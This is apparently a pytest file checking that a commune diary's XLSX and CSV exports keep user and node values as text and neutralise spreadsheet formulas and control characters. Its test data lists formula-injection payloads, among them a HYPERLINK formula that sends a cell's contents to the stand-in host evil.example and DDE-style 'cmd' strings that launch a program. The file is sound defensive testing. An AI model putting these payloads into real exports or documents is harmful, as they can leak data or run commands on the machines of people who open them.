"""Exports carry no formulas: a bulletin title, an operator's name or a node-reported reason
that starts with = + - @ (or a control character) is text in the XLSX and neutralised in the
CSV, and control characters a node sends do not break the XLSX export."""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import pytest
from openpyxl import load_workbook
from support.diary_data import VILLAGES, Diary, Item, ms, new_commune

from headend.diary.exports import export_diary

DAY = date(2026, 3, 2)
NOW = ms(DAY, 23)
ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+cmd|' /C calc'!A0",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.fixture
def exported(tmp_path: Path) -> dict[str, Path]:
    engine = new_commune(tmp_path)
    d = Diary(engine)
    villages = list(VILLAGES)
    for i, attack in enumerate(ATTACKS):
        item = d.plan(Item(f"tb-{i}@{DAY}", "notice", attack, ms(DAY, 7 + i), ms(DAY, 7 + i, 5),
                           summary=attack, operator=attack, approver=attack), villages)
        d.report(item, villages[0])
        # A node's reason, control characters included (the bell, a NUL, an escape).
        d.report(item, villages[1], "failed", attack + "\x07\x00\x1b[31m")
    d.store(NOW)
    out = {}
    for fmt in ("xlsx", "csv"):
        out[fmt] = tmp_path / f"so.{fmt}"
        export_diary(engine, "tan-lang", DAY, DAY, fmt, out[fmt], NOW)
    engine.dispose()
    return out


def test_xlsx_cells_are_text_never_formulas(exported: dict[str, Path]) -> None:
    ws = load_workbook(exported["xlsx"]).active
    assert ws is not None
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert cells and all(c.data_type == "s" for c in cells), [
        (c.coordinate, c.value) for c in cells if c.data_type != "s"]
    text = " ".join(str(c.value) for c in cells)
    assert 'HYPERLINK("http://evil.example' in text  # kept, as text
    assert "\x07" not in text and "\x00" not in text and "\x1b" not in text


def test_csv_values_that_a_spreadsheet_would_run_are_neutralised(
        exported: dict[str, Path]) -> None:
    with exported["csv"].open(encoding="utf-8-sig", newline="") as f:
        values = [v for row in csv.reader(f) for v in row if v]
    assert values
    for v in values:
        assert not v.startswith(("=", "+", "-", "@", "\t", "\r")), v
    assert any(v.startswith("'=HYPERLINK(") for v in values)
    assert any(v.startswith("'+cmd") for v in values)
